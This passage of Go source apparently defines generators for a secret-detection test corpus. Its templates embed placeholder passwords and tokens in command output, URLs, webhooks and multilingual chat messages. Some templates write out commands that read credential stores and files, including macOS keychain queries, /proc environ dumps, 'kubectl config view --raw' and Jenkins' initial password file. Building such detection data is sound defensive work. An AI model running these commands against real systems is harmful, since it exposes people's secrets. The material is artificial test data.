		d("credential-manager-dump", "Windows credential output: PowerShell CredentialManager module and cmdkey (text written here)", pw,
			"PS C:\\> Get-StoredCredential -Target 'git:https://dev.azure.com' -AsCredentialObject\n\nFlags          : 0\nType           : Generic\nTargetName     : git:https://dev.azure.com\nUserName       : build@contoso.com\nPassword       : %s\nPersist        : LocalMachine",
			"PS> [Net.NetworkCredential]::new('', (Get-Secret -Name SqlSa)).Password\n%s",
			"PS C:\\> $cred.GetNetworkCredential() | fl\n\nUserName       : svc_backup\nPassword       : %s\nSecurePassword : System.Security.SecureString\nDomain         : CORP"),
		d("macos-security-password", "macOS security find-generic-password -w and -g output (text written here)", pw,
			"$ security find-generic-password -s 'Docker Hub' -w\n%s",
			"$ security find-internet-password -s github.com -g\nkeychain: \"/Users/dev/Library/Keychains/login.keychain-db\"\nclass: \"inet\"\nattributes:\n    \"acct\"<blob>=\"dev\"\npassword: \"%s\"",
			"dev@mbp ~ % security find-generic-password -a \"$USER\" -s vpn -w\n%s\ndev@mbp ~ %"),
		d("redis-config-get-requirepass", "redis-cli CONFIG GET output (text written here)", pw,
			"127.0.0.1:6379> CONFIG GET requirepass\n1) \"requirepass\"\n2) \"%s\"",
			"127.0.0.1:6379> CONFIG GET masterauth\n1) \"masterauth\"\n2) \"%s\"",
			"redis-cli -h cache ACL LIST\n1) \"user default on nopass ~* &* +@all\"\n2) \"user app on >%s ~app:* +@read +@write\""),
		d("shell-history-file", "a .bash_history, .zsh_history or PSReadLine history pasted (text written here)", pw,
			"  501  cd /srv/app\n  502  mysql -u root -p'%s' -e 'show databases'\n  503  systemctl restart app",
			": 1714644000:0;export VAULT_TOKEN=hvs.x && vault login\n: 1714644012:0;openssl pkcs12 -export -in cert.pem -inkey key.pem -out c.p12 -passout pass:%s",
			"C:\\Users\\ops\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt:\n$pw = ConvertTo-SecureString '%s' -AsPlainText -Force\nNew-LocalUser -Name backup -Password $pw"),
		d("ps-aux-cmdline", "ps, top or /proc/PID/cmdline output with a password flag (text written here)", pw,
			"$ ps aux | grep dump\nroot  18231  2.1  0.3  82340 12112 ?  S  10:01  0:00 pg_dump --dbname=postgresql://backup:%s@pg/app -Fc -f /backup/app.dump",
			"$ cat /proc/4123/cmdline | tr '\\0' ' '\n/usr/bin/java -Djavax.net.ssl.keyStorePassword=%s -jar gateway.jar",
			"UID   PID  PPID  C STIME TTY   TIME CMD\nsvc  9912     1  0 09:58 ?   00:00:02 /opt/vpn/bin/client --user alice --password %s --server vpn.corp.local"),
		d("proc-environ-nul", "/proc/PID/environ printed with its NUL separators shown as ^@ (text written here)", pw,
			"# cat /proc/1/environ\nPATH=/usr/bin^@HOSTNAME=api-0^@API_SECRET=%s^@HOME=/root^@",
			"$ sudo strings /proc/2231/environ\nLANG=C.UTF-8\nSMTP_PASSWORD=%s\nUSER=mailer",
			"environ of pid 77: USER=app\\x00DB_PASS=%s\\x00SHELL=/bin/sh"),
		d("strace-write-auth", "strace or tcpdump -A output showing a plaintext protocol's login (text written here)", pw,
			"write(5, \"*2\\r\\n$4\\r\\nAUTH\\r\\n$16\\r\\n%s\\r\\n\", 42) = 42",
			"10:01:02.345 IP 10.0.0.5.51514 > 10.0.0.9.21: Flags [P.], length 20: FTP: PASS %s",
			"sendto(3, \"LOGIN imapuser %s\\r\\n\", 40, MSG_NOSIGNAL, NULL, 0) = 40"),
		d("vault-kv-get-table", "vault kv get, op item get --reveal and bw get output (text written here)", pw,
			"$ vault kv get secret/prod/db\n====== Data ======\nKey         Value\n---         -----\npassword    %s\nusername    app",
			"$ op item get 'Prod SFTP' --fields label=password --reveal\n%s",
			"$ bw get item 'router admin' | jq .login\n{\n  \"username\": \"admin\",\n  \"password\": \"%s\",\n  \"totp\": null\n}",
			"$ pass show infra/ipmi\n%s\nurl: https://ipmi-07.dc.local"),
		d("first-boot-admin-password", "first-start banners of self-hosted tools that print a generated admin password (text written here)", func(g *gen) string { return g.s(alnum+"_*+=", 20) },
			"━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━\n✅ Elasticsearch security features have been automatically configured!\nℹ️  Password for the elastic user (reset with `bin/elasticsearch-reset-password -u elastic`):\n  %s",
			"$ sudo cat /etc/gitlab/initial_root_password\n# WARNING: This value is valid only in the following conditions\nPassword: %s\n# NOTE: This file will be automatically deleted in the first reconfigure run after 24 hours.",
			"$ argocd admin initial-password -n argocd\n%s\n\n This password must be only used for first time login."),
		d("jenkins-initial-admin-hex", "Jenkins' first-start log with its 32-hex setup password (the Jenkins install guide's shape)", func(g *gen) string { return g.s(hexlc, 32) },
			"*************************************************************\n\nJenkins initial setup is required. An admin user has been created and a password generated.\nPlease use the following password to proceed to installation:\n\n%s\n\nThis may also be found at: /var/jenkins_home/secrets/initialAdminPassword",
			"$ docker exec jenkins cat /var/jenkins_home/secrets/initialAdminPassword\n%s",
			"unlock jenkins with %s"),
		d("sentry-event-headers", "an error-tracker event JSON with request headers (text written here)", b4jwtUser,
			"{\"event_id\":\"9ec79c33ec9942ab8353589fcb2e04dc\",\"request\":{\"url\":\"https://api.example.test/v1/pay\",\"method\":\"POST\",\"headers\":[[\"Authorization\",\"Bearer %s\"],[\"Host\",\"api.example.test\"]]}}",
			"Request\n  Headers\n    Accept: application/json\n    X-Auth-Token: %s",
			"breadcrumb: http GET /internal/users status=401 headers={authorization: \"Bearer %s\"}"),
		d("kafka-connect-config-rest", "Kafka Connect's REST answer with a connector's config (text written here)", pw,
			"$ curl -s connect:8083/connectors/pg-sink/config | jq\n{\n  \"connector.class\": \"io.confluent.connect.jdbc.JdbcSinkConnector\",\n  \"connection.url\": \"jdbc:postgresql://pg:5432/dw\",\n  \"connection.user\": \"sink\",\n  \"connection.password\": \"%s\",\n  \"topics\": \"orders\"\n}",
			"{\"name\":\"s3-sink\",\"config\":{\"aws.secret.access.key\":\"%s\",\"s3.bucket.name\":\"lake\"}}",
			"\"database.password\": \"%s\", \"database.server.name\": \"inventory\""),
		d("kubeconfig-view-raw-token", "kubectl config view --raw with a user token (text written here)", func(g *gen) string {
			return b4jwt(g, `{"iss":"kubernetes/serviceaccount","kubernetes.io/serviceaccount/namespace":"ci","sub":"system:serviceaccount:ci:deployer"}`)
		},
			"$ kubectl config view --raw --minify\nusers:\n- name: deployer\n  user:\n    token: %s",
			"$ kubectl create token deployer -n ci\n%s",
			"kubectl --server=https://10.0.0.1:6443 --token=%s get pods -A"),
		b4armoured("dump", "ssh-private-key-in-agent-confusion", "a private key pasted where a public key was asked for (ssh-add -L confusion), text written here", func(g *gen) string { return b4openssh(g, "dev@laptop") },
			"here's my public key for the server, from ~/.ssh/id_ed25519:\n%s",
			"ssh-add -L says \"The agent has no identities.\" so here is the key file itself:\n%s",
			"authorized_keys should have this line right?\n%s"),
	}
}

// --- link: URLs that carry a secret ---

func b4Links() []b3Kind {
	l := func(name, source string, body func(*gen) string, texts ...string) b3Kind {
		return b4t("link", name, source, body, texts...)
	}
	tok := func(n int) func(*gen) string { return func(g *gen) string { return g.s(b64url, n) } }
	hexN := func(n int) func(*gen) string { return func(g *gen) string { return g.s(hexlc, n) } }
	return []b3Kind{
		l("jwt-in-url-fragment", "an implicit-flow redirect with the access token in the fragment (OAuth 2.0 RFC 6749 §4.2)", b4jwtUser,
			"it redirected me to https://app.example.test/callback#access_token=%s&token_type=Bearer&expires_in=3600 and then showed a blank page",
			"Location: https://spa.example.test/#id_token=%s&state=af0ifjsldkj",
			"copied from the address bar: http://localhost:3000/auth?jwt=%s"),
		l("magic-login-link", "a passwordless sign-in link (text written here)", tok(43),
			"Click to sign in: https://app.example.test/auth/magic?token=%s (expires in 15 minutes)",
			"Subject: Your login link\n\nHi Sam, use this link to log in: https://notes.example.test/login/callback?email=sam%40example.test&code=%s",
			"the magic link doesn't work on my phone: https://example.test/m/%s"),
		l("password-reset-link", "a password reset link (text written here)", hexN(64),
			"To reset your password visit https://accounts.example.test/reset-password/%s?email=jo%40example.test",
			"Réinitialisez votre mot de passe : https://compte.exemple.test/reinit?cle=%s",
			"[ticket 4411] user forwarded the reset email: https://shop.example.test/account/reset?t=%s — can we expire it?"),
		l("invite-link-token", "team invite links with a token (text written here)", tok(32),
			"join the workspace: https://chat.example.test/invite/accept?token=%s",
			"You've been invited to the Design project: https://boards.example.test/i/%s",
			"Einladungslink für das Team: https://wiki.example.test/signup?invite=%s"),
		l("oauth-device-code", "an OAuth device authorization response: device_code is the secret, user_code is shown to people (RFC 8628)", tok(40),
			"{\"device_code\":\"%s\",\"user_code\":\"WDJB-MJHT\",\"verification_uri\":\"https://example.test/device\",\"expires_in\":1800,\"interval\":5}",
			"curl -d grant_type=urn:ietf:params:oauth:grant-type:device_code -d device_code=%s -d client_id=cli https://auth.example.test/oauth/token",
			"polling with device_code=%s ... authorization_pending"),
		l("oauth-auth-code-redirect", "an authorization-code redirect with code and PKCE verifier (RFC 6749, RFC 7636)", tok(43),
			"GET /oauth/callback?code=%s&state=xyz123 HTTP/1.1",
			"token request body: grant_type=authorization_code&code=Sp1x9Qk&redirect_uri=http%3A%2F%2Flocalhost%3A8080&code_verifier=%s",
			"http://127.0.0.1:53682/?state=b2f1&code=%s&scope=drive"),
		l("s3-presigned-signature", "an S3 presigned URL's X-Amz-Signature (AWS SigV4 documentation)", hexN(64),
			"https://reports-bucket.s3.eu-west-1.amazonaws.com/q1.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20240502%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20240502T100000Z&X-Amz-Expires=604800&X-Amz-SignedHeaders=host&X-Amz-Signature=%s",
			"download link (valid 7 days): https://acct.r2.cloudflarestorage.com/backups/db.tar.gz?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20240502T100000Z&X-Amz-SignedHeaders=host&X-Amz-Signature=%s",
			"minio presign: http://minio:9000/uploads/a.png?X-Amz-Credential=minio%2F20240502%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=%s"),
		l("gcs-signed-url", "a Google Cloud Storage V4 signed URL's X-Goog-Signature (512 hex for an RSA-2048 signature, GCS docs)", hexN(512),
			"https://storage.googleapis.com/media-prod/video.mp4?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=signer%40proj.iam.gserviceaccount.com%2F20240502%2Fauto%2Fstorage%2Fgoog4_request&X-Goog-Date=20240502T100000Z&X-Goog-Expires=3600&X-Goog-SignedHeaders=host&X-Goog-Signature=%s",
			"gsutil signurl output:\nURL\tHTTP Method\tExpiration\tSigned URL\ngs://b/o\tGET\t2024-05-03\thttps://storage.googleapis.com/b/o?x-goog-signature=%s&x-goog-algorithm=GOOG4-RSA-SHA256",
			"signed: ...&X-Goog-Signature=%s"),
		l("azure-sas-sig", "an Azure SAS token's sig parameter (URL-encoded base64 of an HMAC-SHA256, Azure Storage docs)", func(g *gen) string { return url.QueryEscape(g.b64(32)) },
			"https://stacct.blob.core.windows.net/exports/data.csv?sp=r&st=2024-05-02T10:00:00Z&se=2024-05-09T18:00:00Z&spr=https&sv=2022-11-02&sr=b&sig=%s",
			"AZURE_STORAGE_SAS_TOKEN=\"?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2025-01-01T00:00:00Z&sig=%s\"",
			"azcopy copy ./dist \"https://web.blob.core.windows.net/$web?sv=2021-08-06&se=2024-06-01&sr=c&sp=rwl&sig=%s\" --recursive"),
		l("oss-cloudfront-signed", "Alibaba OSS and CloudFront signed URLs' Signature (their docs: base64 of HMAC-SHA1, RSA with -_~)", func(g *gen) string { return strings.NewReplacer("+", "-", "/", "~", "=", "_").Replace(g.b64(128)) },
			"https://d111111abcdef8.cloudfront.net/course/lesson1.mp4?Expires=1714700000&Signature=%s&Key-Pair-Id=K2JCJMDEHXQW5F",
			"https://bucket.oss-cn-hangzhou.aliyuncs.com/a.zip?OSSAccessKeyId=LTAI5tExample&Expires=1714700000&Signature=%s",
			"CloudFront-Signature=%s; CloudFront-Key-Pair-Id=K2JCJMDEHXQW5F; Path=/"),
		l("slack-like-webhooks", "incoming webhooks of Mattermost and Rocket.Chat (their docs: /hooks/<26 lowercase alnum> and /hooks/<id>/<token>)", func(g *gen) string { return g.s(b4LoD, 26) },
			"curl -i -X POST -H 'Content-Type: application/json' -d '{\"text\": \"deploy done\"}' https://mattermost.corp.local/hooks/%s",
			"ALERT_WEBHOOK=https://chat.example.test/hooks/%s",
			"rocket: https://rocket.example.test/hooks/6618f8ab0c2e1a3b4d5e6f70/%s"),
		l("teams-workflow-webhook", "a Microsoft Teams workflow (Power Automate) webhook: sig is the secret (Teams docs)", tok(43),
			"https://prod-27.westeurope.logic.azure.com:443/workflows/5b1f0e3a9c2d4e6f8a7b6c5d4e3f2a1b/triggers/manual/paths/invoke?api-version=2016-06-01&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig=%s",
			"teams_webhook_url: \"https://prod-10.northeurope.logic.azure.com/workflows/abc/triggers/manual/paths/invoke?api-version=2016-06-01&sig=%s\"",
			"old-style connector moved to workflows, new URL ends in &sig=%s"),
		l("google-chat-webhook", "a Google Chat space webhook: key and token parameters (Google Chat docs)", func(g *gen) string { return g.s(b64url, 43) + "%3D" },
			"https://chat.googleapis.com/v1/spaces/AAAAGCYeSRY/messages?key=AIzaSyDdI0hCZtE6vySjMm-WEfRq3CPzqKqqsHI&token=%s",
			"GCHAT_HOOK='https://chat.googleapis.com/v1/spaces/AAAAx1y2z3/messages?token=%s&key=AIzaSy'",
			"- name: notify\n  uses: ./notify\n  with:\n    url: https://chat.googleapis.com/v1/spaces/AAQA/messages?token=%s"),
		l("feishu-dingtalk-wecom-webhooks", "Feishu/Lark, DingTalk and WeCom bot webhooks (their open-platform docs)", b4uuid,
			"https://open.feishu.cn/open-apis/bot/v2/hook/%s",
			"企业微信机器人: https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=%s",
			"lark_webhook = \"https://open.larksuite.com/open-apis/bot/v2/hook/%s\""),
		l("dingtalk-access-token", "a DingTalk robot access_token (64 hex) and its SEC signing secret (DingTalk docs)", hexN(64),
			"https://oapi.dingtalk.com/robot/send?access_token=%s",
			"钉钉机器人 webhook：https://oapi.dingtalk.com/robot/send?access_token=%s 加签密钥另发",
			"DINGTALK_SECRET=SEC%s"),
		l("telegram-bot-url", "a Telegram bot token inside an API URL (Bot API docs: <digits>:<35 chars>)", func(g *gen) string { return g.s(b4Dig, 10) + ":AA" + g.s(b64url, 33) },
			"curl -s \"https://api.telegram.org/bot%s/sendMessage?chat_id=-1001234567890&text=backup+ok\"",
			"requests.exceptions.HTTPError: 404 Client Error: Not Found for url: https://api.telegram.org/bot%s/getUpdates",
			"set webhook: https://api.telegram.org/bot%s/setWebhook?url=https://bot.example.test/hook"),
		l("meeting-link-pwd", "a Zoom meeting link with the passcode hash pwd= (text written here)", tok(32),
			"Join Zoom Meeting\nhttps://us06web.zoom.us/j/84512345678?pwd=%s\n\nMeeting ID: 845 1234 5678",
			"Link zur Besprechung: https://zoom.us/j/9876543210?pwd=%s",
			"weekly sync → https://example.zoom.us/j/11122233344?pwd=%s.1"),
		l("jupyter-server-token", "a Jupyter server URL with its 48-hex token (Jupyter Server's startup log)", hexN(48),
			"[I 2024-05-02 10:00:00.000 ServerApp] Jupyter Server 2.14.0 is running at:\n[I 2024-05-02 10:00:00.000 ServerApp] http://127.0.0.1:8888/lab?token=%s",
			"    To access the server, open this file in a browser:\n        file:///root/.local/share/jupyter/runtime/jpserver-7-open.html\n    Or copy and paste one of these URLs:\n        http://a1b2c3:8888/tree?token=%s",
			"colab tunnel: https://8888-gpu-box.example.test/?token=%s"),
		l("private-calendar-feed", "a private calendar feed URL whose path is the secret (Google Calendar's private address shape)", hexN(32),
			"Secret address in iCal format: https://calendar.google.com/calendar/ical/team%40example.test/private-%s/basic.ics",
			"subscribe to https://cal.example.test/feed/ics/%s.ics in Outlook",
			"webcal://p42-caldav.icloud.com/published/2/%s"),
		l("credential-url-odd-schemes", "credentials in URLs of less common schemes (text written here)", b4pw,
			"rclone lsd \"sftp://backup:%s@nas.home:22/volume1\"",
			"CELERY_BROKER_URL=amqps://worker:%s@mq.example.test:5671/prod",
			"mount -t cifs //fs01/share /mnt -o user=svc,pass=%s",
			"REDIS_URL=rediss://default:%s@cache.example.test:6380/0"),
	}
}

// --- sentence: passwords said by people ---

func b4lang(name, lang string, body func(*gen) string, texts ...string) b3Kind {
	return b4t("sentence", name, "a password said in "+lang+" (texts written here)", body, texts...)
}

// b4numWords reads digits out as words.
func b4numWords(g *gen, words []string, n int, sep string) string {
	p := make([]string, n)
	for i := range p {
		p[i] = words[g.rng.IntN(10)]
	}
	return strings.Join(p, sep)
}

func b4Sentences() []b3Kind {
	pw := b4pw
	s := func(name, source string, body func(*gen) string, texts ...string) b3Kind {
		return b4t("sentence", name, source, body, texts...)
	}
	ks := []b3Kind{
		b4lang("french-formal-handover", "French, formal mail and chat", pw,
			"Madame, Monsieur,\n\nSuite à notre échange, veuillez trouver ci-dessous vos identifiants provisoires :\nIdentifiant : m.dupont\nMot de passe : %s\n\nCordialement,\nLe service informatique",
			"salut, le mdp du compte partagé c'est %s, tu le gardes pour toi stp",
			"> Tu peux me redonner le code ?\nOui : %s (celui du serveur de fichiers)"),
		b4lang("german-behoerde-brief", "German, formal letter and team chat", pw,
			"Sehr geehrte Frau Becker,\nIhr vorläufiges Kennwort für das Bürgerportal lautet: %s\nBitte ändern Sie es bei der ersten Anmeldung.\nMit freundlichen Grüßen",
			"kurz: Passwort fürs NAS ist jetzt %s – alte Version gilt nicht mehr",
			"Zugangsdaten Testsystem\nBenutzer: pruefer2\nKennwort: %s"),
		b4lang("spanish-latam-whatsapp", "Latin American Spanish, WhatsApp register", pw,
			"oye la clave del wifi de la oficina es %s jaja no la compartas",
			"Buenos días, le comparto la contraseña del portal de proveedores: %s. Saludos cordiales.",
			"[10:41] Carla: ¿me pasas la contra del router?\n[10:42] Luis: %s"),
		b4lang("portuguese-br-suporte", "Brazilian Portuguese, support and chat", pw,
			"Olá! Sua senha temporária é %s. Por segurança, altere no primeiro acesso.",
			"mano a senha do servidor é %s, anota aí",
			"Prezado cliente, conforme solicitado, segue a nova senha de acesso ao sistema: %s"),
		b4lang("italian-ufficio", "Italian, office mail and chat", pw,
			"Ciao Marco, la password della casella condivisa è %s, cambiala quando puoi.",
			"Gentile utente, la sua parola d'ordine provvisoria è: %s",
			"psw gestionale: %s (non girarla a nessuno)"),
		b4lang("dutch-teams-bericht", "Dutch, Teams message and mail", pw,
			"Hoi Sanne, het wachtwoord van de gedeelde mailbox is %s. Groetjes!",
			"Beste collega,\nJe tijdelijke wachtwoord is %s\nWijzig dit na het inloggen.",
			"ww van de printer-admin = %s"),
		b4lang("polish-helpdesk", "Polish, helpdesk and chat", pw,
			"Dzień dobry, nowe hasło do konta to %s. Prosimy o zmianę po pierwszym logowaniu.",
			"hasło do wifi gości: %s",
			"Siema, daj znać czy działa: login kasia.n, hasło %s"),
		b4lang("russian-chat-parol", "Russian, chat and formal", b4pwL("Солнце", "Медведь", "Ромашка", "Берёза"),
			"Пароль от почты: %s, никому не говори",
			"Уважаемый клиент! Ваш временный пароль: %s. Рекомендуем сменить его после входа.",
			"скинь пароль от сервера плз\n— %s"),
		b4lang("ukrainian-office", "Ukrainian, office mail", pw,
			"Добрий день! Ваш пароль до корпоративної пошти: %s",
			"пароль від бухгалтерії — %s, зміни потім",
			"Логін: o.kovalenko\nПароль: %s"),
		b4lang("czech-slovak-mix", "Czech and Slovak", pw,
			"Ahoj, heslo k wifi je %s",
			"Dobrý deň, vaše nové heslo je %s. Prosím, zmeňte si ho.",
			"přístup do adminu: uživatel admin, heslo %s"),
		b4lang("hungarian-chat-and-letter", "Hungarian", pw,
			"Szia! A közös fiók jelszava: %s",
			"Tisztelt Ügyfelünk! Ideiglenes jelszava: %s",
			"jelszó a routerhez -> %s"),
		b4lang("romanian-chat-and-letter", "Romanian", pw,
			"Bună, parola pentru contul de test este %s",
			"Stimate client, parola dumneavoastră temporară este: %s",
			"parola la wifi e %s, nu o da mai departe"),
		b4lang("greek-viber-and-letter", "Greek", pw,
			"Γεια σου, ο κωδικός του wifi είναι %s",
			"Αγαπητέ πελάτη, ο προσωρινός κωδικός πρόσβασης σας είναι: %s",
			"κωδικός για το σύστημα: %s (μην τον δώσεις)"),
		b4lang("turkish-sifre-mesaj", "Turkish", pw,
			"Merhaba, ortak hesabın şifresi %s, kimseyle paylaşma.",
			"Sayın müşterimiz, geçici parolanız: %s",
			"wifi şifresi ne? — %s"),
		b4lang("arabic-kalimat-sir", "Arabic", pw,
			"مرحبا، كلمة المرور الجديدة هي %s يرجى تغييرها بعد الدخول",
			"الرقم السري للواي فاي: %s",
			"اسم المستخدم: admin كلمة السر: %s"),
		b4lang("hebrew-whatsapp-and-mail", "Hebrew", pw,
			"היי, הסיסמה לחשבון המשותף היא %s",
			"שלום רב, סיסמתך הזמנית: %s",
			"סיסמה לוויפי — %s"),
		b4lang("persian-telegram-and-mail", "Persian", pw,
			"سلام، رمز عبور جدید شما %s است.",
			"رمز وای‌فای: %s",
			"نام کاربری: reza رمز: %s"),
		b4lang("hindi-devanagari", "Hindi in Devanagari and romanised", pw,
			"नमस्ते, आपका अस्थायी पासवर्ड %s है। कृपया लॉगिन के बाद बदलें।",
			"bhai wifi ka password %s hai",
			"पासवर्ड: %s (किसी को मत बताना)"),
		b4lang("bengali-urdu", "Bengali and Urdu", pw,
			"আপনার নতুন পাসওয়ার্ড হল %s",
			"آپ کا عارضی پاس ورڈ %s ہے",
			"ওয়াইফাই পাসওয়ার্ড: %s"),
		b4lang("japanese-keigo-mail", "Japanese, polite mail and casual chat", pw,
			"お世話になっております。仮パスワードは%sです。初回ログイン後に変更をお願いいたします。",
			"パスワード→%s　よろしく〜",
			"【重要】共有アカウントのパスワード：%s"),
		b4lang("korean-kakaotalk", "Korean, KakaoTalk and formal", pw,
			"비번 %s 이거야 ㅋㅋ",
			"안녕하세요, 임시 비밀번호는 %s 입니다. 로그인 후 변경해 주세요.",
			"와이파이 비밀번호: %s"),
		b4lang("chinese-wechat", "Simplified Chinese, WeChat and work mail", pw,
			"服务器密码是%s，别外传哈",
			"您好，您的初始密码为：%s，请登录后及时修改。",
			"账号：zhangwei 密码：%s"),
		b4lang("thai-line", "Thai, LINE chat and formal", pw,
			"รหัสผ่านไวไฟคือ %s นะ",
			"เรียนลูกค้า รหัสผ่านชั่วคราวของท่านคือ %s",
			"พาส: %s"),
		b4lang("vietnamese-zalo", "Vietnamese, Zalo chat", pw,
			"pass wifi quán là %s nha",
			"Kính gửi anh/chị, mật khẩu tạm thời là %s",
			"tk: admin / mk: %s"),
		b4lang("indonesian-malay", "Indonesian and Malay", pw,
			"Halo, kata sandi akun bersama: %s",
			"kata laluan baharu anda ialah %s",
			"pw wifi kantor %s ya, jangan disebar"),
		b4lang("tagalog-taglish", "Tagalog and Taglish", pw,
			"Pre, yung password ng router ay %s",
			"Magandang araw po, ang inyong pansamantalang password ay %s",
			"pass ng admin: %s wag mo ipamigay ha"),
		b4lang("swahili-amharic", "Swahili and Amharic", pw,
			"Habari, nenosiri jipya ni %s",
			"የይለፍ ቃልዎ %s ነው",
			"nenosiri la wifi: %s"),
		b4lang("nordic-mix", "Finnish, Norwegian, Danish and Icelandic", pw,
			"Moi, jaetun tilin salasana on %s",
			"Hei, passordet til wifi er %s",
			"Adgangskode til serveren: %s",
			"Lykilorðið er %s"),
		b4lang("baltic-mix", "Estonian, Latvian and Lithuanian", pw,
			"Tere, uus parool on %s",
			"Sveiki, jūsu parole ir %s",
			"Slaptažodis: %s"),
		b4lang("balkan-mix", "Serbian (Cyrillic), Croatian and Bulgarian", pw,
			"Лозинка за wifi је %s",
			"Bok, lozinka za server je %s",
			"Паролата за системата е %s"),
		b4lang("iberian-minor", "Catalan, Basque, Galician and Welsh", pw,
			"La contrasenya del wifi és %s",
			"Pasahitza: %s",
			"O contrasinal novo é %s",
			"Y cyfrinair newydd yw %s"),
		b4lang("central-asian-mix", "Kazakh, Uzbek, Azerbaijani and Mongolian", pw,
			"Құпия сөз: %s",
			"Parol: %s, hech kimga aytmang",
			"Şifrə %s-dir",
			"Нууц үг: %s"),
		b4lang("south-indian-mix", "Tamil, Telugu, Kannada and Malayalam", pw,
			"கடவுச்சொல் %s",
			"మీ పాస్‌వర్డ్ %s",
			"ಪಾಸ್‌ವರ್ಡ್: %s",
			"പാസ്‌വേഡ് %s ആണ്"),
		b4lang("west-african-mix", "Yoruba, Hausa and Nigerian Pidgin", pw,
			"Ọ̀rọ̀ aṣínà rẹ ni %s",
			"Kalmar sirri: %s",
			"abeg the password na %s, no share am o"),

		s("passphrase-with-spaces", "a passphrase of words separated by spaces (text written here)", b4pwSp,
			"the vault passphrase is \"%s\" — with the spaces",
			"Passphrase: %s",
			"unlock phrase (all lowercase, single spaces): %s"),
		s("password-in-guillemets-and-cjk-brackets", "a password in quotes and brackets of many kinds (text written here)", pw,
			"Le mot de passe est «%s».",
			"Das Kennwort lautet „%s“.",
			"パスワードは「%s」です。",
			"密码：【%s】",
			"пароль ‹%s›"),
		s("password-in-odd-delimiters", "a password between delimiters: backticks, square brackets, braces, pipes, asterisks (text written here)", pw,
			"pw: `%s`",
			"credentials [admin] [%s]",
			"the root password {%s} — braces not included",
			"| db | app | %s |",
			"**password:** **%s**"),
		s("password-after-emoji", "a password after emoji with no keyword (text written here)", pw,
			"🔑 %s",
			"wifi 📶🔐 %s",
			"👉 %s 👈 that's the new admin one",
			"🗝️: %s"),
		s("password-split-two-messages", "a password split over two chat messages; the first half is labelled, each half is 8 characters or more (text written here)", func(g *gen) string { return g.s(alnum+"!#", 10) },
			"[09:01] Ana: the password is %s\n[09:01] Ana: and then 7fPq!29xLm at the end, no space",
			"msg 1: first part: %s\nmsg 2: second part: KqT93z!pWc",
			"Tom: pw start = %s\nTom: pw end = pX82-dDk1Q (join them)"),
		s("old-and-new-password-old", "\"the old one was X, the new one is Y\": the old one is labelled (text written here)", pw,
			"The old password was %s, the new one is Hx8#qPz2mLw9 — update your keychain.",
			"Passwort geändert: alt %s → neu Wq7!rTz3Lp0x",
			"old: %s\nnew: Zr9$kLm2Qw8p"),
		s("old-and-new-password-new", "\"the old one was X, the new one is Y\": the new one is labelled (text written here)", pw,
			"The old password was Gt5!mNq8Rz2w, the new one is %s — update your keychain.",
			"ancien : Bv4#xYp7Lq1s, nouveau : %s",
			"rotated. previous=Ld3@pQs9Wm4k current=%s"),
		s("digits-read-in-words-en", "a PIN or numeric password read out in English words (voice transcript, text written here)", func(g *gen) string {
			return b4numWords(g, []string{"zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"}, 8, " ")
		},
			"[voicemail transcript] Hi, it's Dave. The door code for the server room is %s. Thanks, bye.",
			"agent: can you read me the code? caller: sure, it's %s",
			"the safe combination, spelled out so autocorrect doesn't mess it up: %s"),
		s("digits-read-in-words-fr-de", "a numeric code read out in French and German words (text written here)", func(g *gen) string {
			if g.rng.IntN(2) == 0 {
				return b4numWords(g, []string{"zéro", "un", "deux", "trois", "quatre", "cinq", "six", "sept", "huit", "neuf"}, 8, " ")
			}
			return b4numWords(g, []string{"null", "eins", "zwei", "drei", "vier", "fünf", "sechs", "sieben", "acht", "neun"}, 8, " ")
		},
			"Transcription du message vocal : le code d'accès est %s.",
			"Anrufbeantworter: Der Tresorcode lautet %s, bitte nicht aufschreiben.",
			"code (dicté) : %s"),
		s("ocr-screenshot-typos", "a password in OCR'd screenshot text with typos around it (text written here)", pw,
			"Usemame: jsmith\nPassw0rd: %s\n[Log ln]   [Forgot passvvord?]",
			"WiFi Netw0rk: Guest-5G\nPassvvord : %s\nScan the QR c0de to connect",
			"Accoumt settings » Securlty » App passwrd: %s"),
		s("markdown-table-creds", "a password in a Markdown or ASCII table (text written here)", pw,
			"| host | user | password |\n|---|---|---|\n| db-prod | app | %s |\n| db-stage | app | (ask ops) |",
			"+----------+-----------+\n| user     | pass      |\n+----------+-----------+\n| backup   | %s |\n+----------+-----------+",
			"Service\tLogin\tSecret\nSFTP\tpartner\t%s"),
		s("bullet-list-creds", "credentials in a bullet list of an onboarding note (text written here)", pw,
			"Onboarding:\n- VPN: use your SSO\n- Wiki: wiki.corp.local\n- Shared printer admin: %s\n- Coffee machine: press the blue button",
			"* staging db → app / %s\n* prod db → via bastion only",
			"1. Log in as `kiosk`\n2. Enter %s\n3. Open the till app"),
		s("quoted-reply-creds", "a password inside a quoted reply (text written here)", pw,
			"> > Can you send me the login again?\n> Sure: user ops, pass %s\n\nThanks, that worked!",
			"On Tue, 2 May 2024 at 10:00, Ops <ops@example.test> wrote:\n> The new VPN password is %s\n> Please don't forward.",
			">> pw=%s\n> got it, thx"),
		s("machine-translated-creds", "a password in machine-translated text (text written here)", pw,
			"Hello dear, the word of pass for the machine is %s, please to change it after.",
			"Your secret word has been renovated: %s. Thank you for your preference.",
			"The key of entry of the network without threads is %s"),
		s("no-keyword-at-all", "a password handed over with no keyword at all (text written here)", pw,
			"try %s",
			"it's %s, capital first letter",
			"ok here: %s\nlet me know when you're in",
			"same as the one on the sticky note, %s"),
		s("creds-user-at-host-colon", "user:password said inline in prose (text written here)", pw,
			"log in with admin:%s on the switch",
			"ssh deploy@10.0.4.2 (pw %s)",
			"it's root / %s on all three boxes"),
		s("security-answers", "answers to security questions given as secrets (text written here)", func(g *gen) string { return b4cap(g.pick(b4Words...)) + g.s(b4Dig, 4) + b4cap(g.pick(b4Words...)) },
